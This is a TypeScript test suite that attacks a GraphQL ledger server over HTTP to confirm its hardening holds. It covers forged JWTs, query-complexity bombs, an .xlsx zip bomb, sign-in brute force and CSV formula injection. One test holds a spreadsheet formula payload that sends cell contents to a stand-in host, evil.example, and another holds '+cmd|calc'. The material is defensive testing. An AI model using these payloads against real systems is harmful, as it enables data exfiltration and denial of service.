import { createHmac, randomBytes } from 'node:crypto';
import yazl from 'yazl';
import { loadConfig } from '@ledger/runtime';
import { DEMO_PASSWORD } from '@ledger/demo-data';
import { ADMIN, TestLedger, USER_PASSWORD, codeOf, startTestLedger } from '../testing/test-ledger';

/**
 * The attacks of the hardening issue, each against the real server over HTTP (docs/security.md):
 * the suite fails if any of them comes back. SQLite only: none of this depends on the store.
 */

const REAL_USE = { ADMIN_EMAIL: ADMIN.email, ADMIN_PASSWORD: ADMIN.password };
const base64url = (value: object | string) => Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');

/** A JWT signed (or not) as an attacker would make one. */
function forgedToken(header: object, payload: object, secret?: string): string {
  const unsigned = `${base64url(header)}.${base64url(payload)}`;
  return `${unsigned}.${secret ? createHmac('sha256', secret).update(unsigned).digest('base64url') : ''}`;
}

function zipOf(entries: { name: string; content: Buffer }[]): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const zip = new yazl.ZipFile();
    for (const entry of entries) zip.addBuffer(entry.content, entry.name, { compress: true });
    const chunks: Buffer[] = [];
    zip.outputStream.on('data', (chunk: Buffer) => chunks.push(chunk)).on('end', () => resolve(Buffer.concat(chunks))).on('error', reject);
    zip.end();
  });
}

describe('a deployment started as the README says for real use, attacked', () => {
  const jwtSecret = randomBytes(32).toString('hex');
  let ledger: TestLedger;
  let admin: string;

  beforeAll(async () => {
    // Exactly the README's real-use configuration: ADMIN_EMAIL and ADMIN_PASSWORD, DEMO_DATA unset.
    const { DEMO_DATA } = loadConfig(REAL_USE);
    ledger = await startTestLedger('sqlite', { DEMO_DATA, JWT_SECRET: jwtSecret, MUTATIONS_PER_MINUTE: 120, FILE_REQUESTS_PER_MINUTE: 30 });
    admin = await ledger.adminToken();
  }, 180_000);
  afterAll(async () => ledger?.close());

  const post = (body: unknown, headers: Record<string, string> = {}) =>
    fetch(`${ledger.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: typeof body === 'string' ? body : JSON.stringify(body) });
  const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

  describe('safe defaults', () => {
    it('creates no demo users: the published demo password signs nobody in', async () => {
      const answer = await ledger.gql('mutation { login(email: "admin@demo.ledger.example", password: "' + DEMO_PASSWORD + '") { token } }');
      expect(codeOf(answer)).toBe('UNAUTHENTICATED');
      const users = await ledger.ok('{ users { email } }', {}, admin);
      expect(users.map((u: { email: string }) => u.email)).toEqual([ADMIN.email]);
      // So the UI shows no demo banner.
      expect((await ledger.gql('{ demoUsersPresent }')).data).toEqual({ demoUsersPresent: false });
    });

    it('describes the schema to signed-in callers only', async () => {
      const anonymous = await (await post({ query: '{ __schema { queryType { name } } }' })).json();
      expect(anonymous.errors[0].extensions.code).toBe('UNAUTHENTICATED');
      expect(anonymous.data ?? null).toBeNull();
      const typed = await (await post({ query: '{ __type(name: "User") { name } }' })).json();
      expect(typed.errors[0].extensions.code).toBe('UNAUTHENTICATED');
      expect((await ledger.ok('{ __schema { queryType { name } } }', {}, admin)).queryType.name).toBe('Query');
    });

    it('offers no landing page and no field suggestions that would map the schema', async () => {
      const page = await fetch(`${ledger.url}/graphql`, { headers: { accept: 'text/html' } });
      expect(page.headers.get('content-type')).not.toMatch(/html/);
      expect(await page.text()).not.toMatch(/<html|sandbox|playground|embeddable/i);
      const typo = await (await post({ query: '{ mee { id } }' }, bearer(admin))).json();
      expect(typo.errors[0].message).not.toMatch(/Did you mean/);
      expect(JSON.stringify(typo)).not.toContain('"me"');
    });
  });

  describe('abuse limits, before any resolver runs', () => {
    it('refuses 800 aliases of registersAsOf with QUERY_TOO_COMPLEX while /health keeps answering', async () => {
      const aliases = Array.from({ length: 800 }, (_, i) => `a${i}: registersAsOf(asOf: "2026-01-01T00:00:00Z") { gatewayLog { id } }`).join(' ');
      const [answer, health] = await Promise.all([post({ query: `{ ${aliases} }` }, bearer(admin)).then((r) => r.json()), fetch(`${ledger.url}/health`)]);
      expect(answer.errors[0].extensions.code).toBe('QUERY_TOO_COMPLEX');
      expect(answer.data ?? null).toBeNull();
      expect(health.status).toBe(200);
    });

    it.each([
      ['more aliases than the limit', `{ ${Array.from({ length: 21 }, (_, i) => `a${i}: me { id }`).join(' ')} }`, /Aliases limit of 20/],
      ['a register as at an instant five times (cost)', `{ ${Array.from({ length: 5 }, (_, i) => `a${i}: registersAsOf(asOf: "2026-01-01T00:00:00Z") { gatewayLog { id } }`).join(' ')} }`, /cost/],
      ['a document deeper than the limit', `{ maturityAssessment(year: 2026) { ${'previousYear { '.repeat(14)}year${' }'.repeat(14)} } }`, /Query validation error|depth/i],
      ['more directives than the limit', `{ me { id ${'@include(if: true) '.repeat(25)} } }`, /Directives limit/],
    ])('refuses %s with QUERY_TOO_COMPLEX', async (_, query, message) => {
      const answer = await (await post({ query }, bearer(admin))).json();
      expect(answer.errors[0].extensions.code).toBe('QUERY_TOO_COMPLEX');
      expect(answer.errors.map((e: { message: string }) => e.message).join(' ')).toMatch(message);
      expect(answer.data ?? null).toBeNull();
    });

    it('answers a request within the limits: three registers as at an instant', async () => {
      const three = Array.from({ length: 3 }, (_, i) => `a${i}: registersAsOf(asOf: "2026-01-01T00:00:00Z") { gatewayLog { id } }`).join(' ');
      const answer = await (await post({ query: `{ ${three} }` }, bearer(admin))).json();
      expect(answer.errors).toBeUndefined();
      expect(Object.keys(answer.data)).toHaveLength(3);
    });

    it('refuses batched requests and a body over the size limit with a code, not "Cannot POST"', async () => {
      const batch = await post([{ query: '{ me { id } }' }, { query: '{ me { id } }' }], bearer(admin));
      expect(batch.status).toBe(400);
      const big = await post({ query: '{ me { id } }', variables: { padding: 'x'.repeat(200_000) } }, bearer(admin));
      expect(big.status).toBe(413);
      expect((await big.json()).error.code).toBe('BAD_USER_INPUT');
      const broken = await post('{"query": ', bearer(admin));
      expect(broken.status).toBe(400);
    });
  });

  describe('accounts', () => {
    it('throttles repeated failed sign-ins per account: after a few, even the right password is refused TOO_MANY_REQUESTS', async () => {
      const victim = await ledger.userFor('STAFF', `victim.${randomBytes(3).toString('hex')}@example.gov.uk`);
      const login = (password: string) =>
        ledger.gql('mutation($email: String!, $password: String!) { login(email: $email, password: $password) { token } }', { email: victim.email, password });
      const codes: string[] = [];
      for (let i = 0; i < 8; i++) codes.push(codeOf(await login(`wrong guess number ${i}`)) as string);
      expect(codes.slice(0, 5)).toEqual(Array(5).fill('UNAUTHENTICATED'));
      expect(codes.at(-1)).toBe('TOO_MANY_REQUESTS');
      const right = await login(USER_PASSWORD);
      expect(codeOf(right)).toBe('TOO_MANY_REQUESTS');
      expect(right.errors?.[0].message).toMatch(/try again in \d+ seconds?/);
    });

    it('refuses a common or breached password, and one shorter than 12 characters', async () => {
      const create = (password: string) =>
        ledger.refused(
          'BAD_USER_INPUT',
          'mutation($p: String!) { createUser(email: "new.person@example.gov.uk", displayName: "New Person", password: $p, roles: [STAFF]) { id } }',
          { p: password },
          admin,
        );
      expect((await create('password1234')).errors?.[0].message).toMatch(/common or breached/);
      expect((await create('Password1234!')).errors?.[0].message).toMatch(/common or breached/);
      expect((await create('short')).errors?.[0].message).toMatch(/at least 12/);
    });

    it('lets a user change their own password after proving the current one, and an admin reset another\'s', async () => {
      const user = await ledger.userFor('STAFF');
      const change = 'mutation($c: String!, $n: String!) { changeOwnPassword(currentPassword: $c, newPassword: $n) }';
      await ledger.refused('UNAUTHENTICATED', change, { c: 'not my password at all', n: 'kettle orbit marmalade' }, user.token);
      await ledger.refused('BAD_USER_INPUT', change, { c: USER_PASSWORD, n: 'password1234' }, user.token);
      expect(await ledger.ok(change, { c: USER_PASSWORD, n: 'kettle orbit marmalade' }, user.token)).toBe(true);
      expect(codeOf(await ledger.gql(`mutation { login(email: "${user.email}", password: "${USER_PASSWORD}") { token } }`))).toBe('UNAUTHENTICATED');
      // The change ended every session opened before it (the token carries the session version).
      expect(codeOf(await ledger.gql('{ me { id } }', {}, user.token))).toBe('UNAUTHENTICATED');
      const signedInAgain = await ledger.loginAs(user.email, 'kettle orbit marmalade');

      const reset = 'mutation($id: ID!, $n: String!) { resetUserPassword(userId: $id, newPassword: $n) { id } }';
      await ledger.refused('FORBIDDEN', reset, { id: user.id, n: 'lantern quartz biscuit' }, signedInAgain);
      await ledger.ok(reset, { id: user.id, n: 'lantern quartz biscuit' }, admin);
      await ledger.loginAs(user.email, 'lantern quartz biscuit');
    });

    it('lets an admin change another user\'s roles, at once, but nobody their own', async () => {
      const user = await ledger.userFor('STAFF');
      const roles = 'mutation($id: ID!, $roles: [Role!]!) { changeUserRoles(userId: $id, roles: $roles) { roles } }';
      await ledger.refused('FORBIDDEN', roles, { id: user.id, roles: ['ADMIN'] }, user.token);
      expect(await ledger.ok(roles, { id: user.id, roles: ['AUDITOR'] }, admin)).toEqual({ roles: ['AUDITOR'] });
      expect((await ledger.ok('{ me { roles } }', {}, user.token)).roles).toEqual(['AUDITOR']);
      const adminId = (await ledger.ok('{ me { id } }', {}, admin)).id;
      const self = await ledger.refused('FORBIDDEN', roles, { id: adminId, roles: ['ADMIN', 'AUDITOR'] }, admin);
      expect(self.errors?.[0].message).toMatch(/Nobody changes their own roles/);
      // The only administrator giving up ADMIN is told the graver reason: nobody would be left.
      const last = await ledger.refused('RULE_VIOLATION', roles, { id: adminId, roles: ['STAFF'] }, admin);
      expect(last.errors?.[0].message).toMatch(/last active administrator/);
    });

    it('accepts tokens signed HS256 with an expiry only: "none", a missing exp and another key are refused', async () => {
      const adminId = (await ledger.ok('{ me { id } }', {}, admin)).id;
      const now = Math.floor(Date.now() / 1000);
      const tokens = [
        forgedToken({ alg: 'none', typ: 'JWT' }, { sub: adminId, exp: now + 600 }),
        forgedToken({ alg: 'HS256', typ: 'JWT' }, { sub: adminId, iat: now }, jwtSecret),
        forgedToken({ alg: 'HS256', typ: 'JWT' }, { sub: adminId, exp: now + 600 }, 'some-other-secret-of-at-least-32-chars'),
        forgedToken({ alg: 'HS512', typ: 'JWT' }, { sub: adminId, exp: now + 600 }, jwtSecret),
      ];
      for (const token of tokens) expect(codeOf(await ledger.gql('{ me { id } }', {}, token))).toBe('UNAUTHENTICATED');
      const genuine = forgedToken({ alg: 'HS256', typ: 'JWT' }, { sub: adminId, exp: now + 600 }, jwtSecret);
      expect((await ledger.ok('{ me { id } }', {}, genuine)).id).toBe(adminId);
    });
  });

  describe('uploads and exports', () => {
    const upload = async (name: string, content: Buffer) => {
      const form = new FormData();
      form.append('file', new Blob([new Uint8Array(content)]), name);
      return fetch(`${ledger.url}/api/workforce/imports/skills-matrix?dryRun=true`, { method: 'POST', headers: bearer(admin), body: form });
    };

    it('refuses a small .xlsx that expands to gigabytes with 413, and the server stays up', async () => {
      const bomb = await zipOf([{ name: 'xl/worksheets/sheet1.xml', content: Buffer.alloc(200 * 1024 * 1024, 0x20) }]);
      expect(bomb.length).toBeLessThan(1024 * 1024);
      const answer = await upload('matrix.xlsx', bomb);
      expect(answer.status).toBe(413);
      expect((await answer.json()).error.message).toMatch(/expands to more than/);
      expect((await fetch(`${ledger.url}/health`)).status).toBe(200);
    });

    it('writes text that a spreadsheet would run as a formula inert in every CSV export', async () => {
      const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
      await ledger.ok(
        'mutation($input: IdentifyRiskInput!) { identifyRisk(input: $input) { id } }',
        { input: { title: formula, category: 'FRAUD_AND_FINANCIAL_LOSS', likelihood: 2, impact: 3, reviewEveryMonths: 6, controls: ['+cmd|calc', '@SUM(1)'] } },
        admin,
      );
      const csv = await (await fetch(`${ledger.url}/api/risks/exports/risk-register?format=csv`, { headers: bearer(admin) })).text();
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
      // No cell of the export starts with a formula trigger.
      expect(csv).not.toMatch(/(^|\n|,)"?[=+@-]/);
    });
  });

  describe('HTTP', () => {
    it('sends security headers, no X-Powered-By, and no-store on answers that may hold personal data', async () => {
      const answer = await post({ query: '{ me { id email } }' }, bearer(admin));
      const csp = answer.headers.get('content-security-policy') ?? '';
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("script-src 'self'");
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
      expect(answer.headers.get('x-powered-by')).toBeNull();
      expect(answer.headers.get('cache-control')).toBe('no-store');
      expect(answer.headers.get('strict-transport-security')).toBeNull();
    });

    it('compresses JSON answers', async () => {
      const answer = await post({ query: '{ __schema { types { name description fields { name description } } } }' }, { ...bearer(admin), 'accept-encoding': 'gzip' });
      expect(answer.headers.get('content-encoding')).toBe('gzip');
      expect((await answer.json()).data.__schema.types.length).toBeGreaterThan(50);
    });
  });

  describe('bad input at the edge', () => {
    const register = 'mutation($input: RegisterProcurementInput!) { registerProcurement(input: $input) { id } }';
    const procurement = { title: 'Edge case', estimatedValue: 1000, riskLevel: 'LOW', politicalInterest: false };

    it.each(['', ' ', '\t'])('refuses the blank commandId %j as an idempotency key', async (commandId) => {
      await ledger.refused('BAD_USER_INPUT', register, { input: { ...procurement, commandId } }, admin);
    });

    it('refuses a lone surrogate in an email with BAD_USER_INPUT, not an internal error', async () => {
      await ledger.refused(
        'BAD_USER_INPUT',
        'mutation($input: RegisterStaffMemberInput!) { registerStaffMember(input: $input) { id } }',
        { input: { displayName: 'Jo', email: 'jo\uD800@example.gov.uk', jobTitle: 'Officer', department: 'Procurement' } },
        admin,
      );
    });

    it('refuses a NUL character (which PostgreSQL cannot store) with BAD_USER_INPUT on SQLite too, naming the field', async () => {
      const answer = await ledger.refused('BAD_USER_INPUT', register, { input: { ...procurement, title: 'Edge\u0000case' } }, admin);
      expect(answer.errors?.[0].message).toContain('title is not valid text: it holds a NUL character');
    });

    it.each(['0001-01-01', '9999-12-31'])('refuses the date %s where a real date is meant', async (date) => {
      await ledger.refused(
        'BAD_USER_INPUT',
        'mutation($input: ProposePostInput!) { proposePost(input: $input) { id } }',
        { input: { title: 'Officer', fte: 1, justification: 'Growth', targetYear: 2027, startDate: date } },
        admin,
      );
    });
  });
});

describe('least personal data', () => {
  let ledger: TestLedger;
  beforeAll(async () => {
    ledger = await startTestLedger('sqlite', { DEMO_DATA: true });
  }, 180_000);
  afterAll(async () => ledger?.close());

  it('tells anyone, signed in or not, that demo users exist, for the UI banner', async () => {
    expect((await ledger.gql('{ demoUsersPresent }')).data).toEqual({ demoUsersPresent: true });
  });

  it.each([
    ['HR_LEAD', true],
    ['ADMIN', true],
    ['AUDITOR', true],
    ['PROCUREMENT_LEAD', false],
    ['COMMITTEE_MEMBER', false],
  ] as const)('shows staff emails to %s: %s; names to every role that reads staff', async (role, seesEmails) => {
    const token = await ledger.tokenFor(role);
    const staff: { displayName: string; email: string | null; erased: boolean }[] = await ledger.ok('{ staffMembers { displayName email erased } }', {}, token);
    const living = staff.filter((person) => !person.erased);
    expect(living.length).toBeGreaterThan(2);
    living.forEach((person) => expect(person.displayName).toMatch(/\w/));
    expect(living.every((person) => (seesEmails ? person.email !== null : person.email === null))).toBe(true);
  });
});

describe('rate limits per user', () => {
  let ledger: TestLedger;
  beforeAll(async () => {
    ledger = await startTestLedger('sqlite', { MUTATIONS_PER_MINUTE: 3, FILE_REQUESTS_PER_MINUTE: 2 });
  }, 180_000);
  afterAll(async () => ledger?.close());

  it('refuses a user\'s mutations past the limit with TOO_MANY_REQUESTS and records nothing, while another user goes on', async () => {
    const lead = await ledger.tokenFor('PROCUREMENT_LEAD');
    const other = await ledger.tokenFor('PROCUREMENT_LEAD');
    const register = 'mutation($input: RegisterProcurementInput!) { registerProcurement(input: $input) { id } }';
    const input = { title: 'Rate limited', estimatedValue: 1000, riskLevel: 'LOW', politicalInterest: false };
    for (let i = 0; i < 3; i++) await ledger.ok(register, { input }, lead);
    await ledger.refused('TOO_MANY_REQUESTS', register, { input }, lead);
    await ledger.ok(register, { input }, other);
  });

  it('refuses a user\'s exports past the limit with 429', async () => {
    const auditor = await ledger.tokenFor('AUDITOR');
    const exportOnce = () => fetch(`${ledger.url}/api/risks/exports/risk-register?format=csv`, { headers: { authorization: `Bearer ${auditor}` } });
    expect((await exportOnce()).status).toBe(200);
    expect((await exportOnce()).status).toBe(200);
    const third = await exportOnce();
    expect(third.status).toBe(429);
    expect((await third.json()).error.code).toBe('TOO_MANY_REQUESTS');
  });
});
